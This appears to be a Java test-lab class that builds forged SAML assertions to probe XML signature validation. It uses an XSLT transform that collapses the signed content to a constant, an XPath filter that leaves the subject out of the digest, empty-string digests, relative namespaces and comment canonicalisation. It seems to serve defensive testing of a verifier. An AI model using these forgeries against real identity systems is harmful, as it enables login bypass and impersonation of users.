package io.dovetail.lab.idp.attack;

import io.dovetail.lab.idp.AttackScene;
import io.dovetail.lab.idp.SignedParts;
import io.dovetail.lab.idp.Signing;
import io.dovetail.lab.idp.Signing.Step;
import io.dovetail.lab.idp.xml.Names;
import io.dovetail.lab.idp.xml.Xml;
import java.util.Map;
import javax.xml.crypto.dom.DOMStructure;
import javax.xml.crypto.dsig.Transform;
import javax.xml.crypto.dsig.spec.XPathFilterParameterSpec;
import javax.xml.crypto.dsig.spec.XSLTTransformParameterSpec;
import org.w3c.dom.Element;

/** security.md C6, C7 and C11: what is digested is not what is read. */
public final class TransformAttacks {

    private static final Step ENVELOPED = Step.of(Names.ENVELOPED);
    private static final Step EXCLUSIVE = Step.of(Names.EXCLUSIVE_C14N);

    private static final String CONSTANT_STYLESHEET = """
            <xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" version="1.0">\
            <xsl:template match="/"><nothing/></xsl:template></xsl:stylesheet>""";

    private TransformAttacks() {}

    /** C6: a stylesheet turns whatever stands there into a constant. */
    public static String xslt(AttackScene scene) {
        Element stylesheet = Xml.parse(CONSTANT_STYLESHEET).getDocumentElement();
        Step step = new Step(Transform.XSLT, new XSLTTransformParameterSpec(new DOMStructure(stylesheet)));
        return forgedAfter(scene, ENVELOPED, step, EXCLUSIVE);
    }

    /** C6: an XPath filter leaves out of the digest what names the person. */
    public static String xpath(AttackScene scene) {
        String filter = "not(ancestor-or-self::saml:Subject or ancestor-or-self::saml:AttributeStatement)";
        var parameters = new XPathFilterParameterSpec(filter, Map.of("saml", Names.SAML));
        return forgedAfter(scene, ENVELOPED, new Step(Transform.XPATH, parameters), EXCLUSIVE);
    }

    /** C6: a base64 transform. */
    public static String base64(AttackScene scene) {
        Hostile hostile = Hostile.signed(scene, SignedParts.ASSERTION);
        Element signature = Hostile.signatureOf(hostile.assertion());
        Element transforms = Xml.descendants(signature, Names.DS, "Transforms").get(0);
        Xml.append(transforms, Names.DS, "ds:Transform").setAttribute("Algorithm", Transform.BASE64);
        Resigning.by(scene.keys(), signature);
        return hostile.encoded();
    }

    /** C6: the lawful transforms, one of them twice. */
    public static String moreThanTwo(AttackScene scene) {
        return signed(scene, by(scene).withTransforms(ENVELOPED, ENVELOPED, EXCLUSIVE));
    }

    /** C6: inclusive canonicalisation of the Assertion. */
    public static String inclusive(AttackScene scene) {
        return signed(scene, by(scene).withTransforms(ENVELOPED, Step.of(Names.INCLUSIVE_C14N)));
    }

    /** C7: the digest of nothing, and a relative namespace URI at which some canonicalisers answer nothing. */
    public static String relativeNamespace(AttackScene scene) {
        Hostile hostile = digestOfNothing(scene);
        hostile.the("Subject").setAttributeNS(Names.XMLNS, "xmlns:relative", "1");
        return hostile.encoded();
    }

    /** C7: the digest of nothing. */
    public static String digestOfEmptyString(AttackScene scene) {
        return digestOfNothing(scene).encoded();
    }

    /** C11: SignedInfo is canonicalised with its comments. */
    public static String signedInfoWithComments(AttackScene scene) {
        return signed(scene, by(scene).withCanonicalization(Names.EXCLUSIVE_C14N_WITH_COMMENTS));
    }

    /** C11: the Assertion is canonicalised with its comments. */
    public static String assertionWithComments(AttackScene scene) {
        return signed(scene, by(scene).withTransforms(ENVELOPED, Step.of(Names.EXCLUSIVE_C14N_WITH_COMMENTS)));
    }

    private static Signing by(AttackScene scene) {
        return Signing.by(scene.keys());
    }

    private static String signed(AttackScene scene, Signing signing) {
        Hostile hostile = Hostile.unsigned(scene);
        signing.sign(hostile.assertion());
        return hostile.encoded();
    }

    private static String forgedAfter(AttackScene scene, Step... transforms) {
        Hostile hostile = Hostile.unsigned(scene);
        by(scene).withTransforms(transforms).sign(hostile.assertion());
        Hostile.forge(hostile.assertion());
        return hostile.encoded();
    }

    private static Hostile digestOfNothing(AttackScene scene) {
        Hostile hostile = Hostile.signed(scene, SignedParts.ASSERTION);
        Element signature = Hostile.signatureOf(hostile.assertion());
        Resigning.digestValue(signature).setTextContent(Resigning.digest(new byte[0], "SHA-256"));
        Resigning.by(scene.keys(), signature);
        Hostile.forge(hostile.assertion());
        return hostile;
    }
}
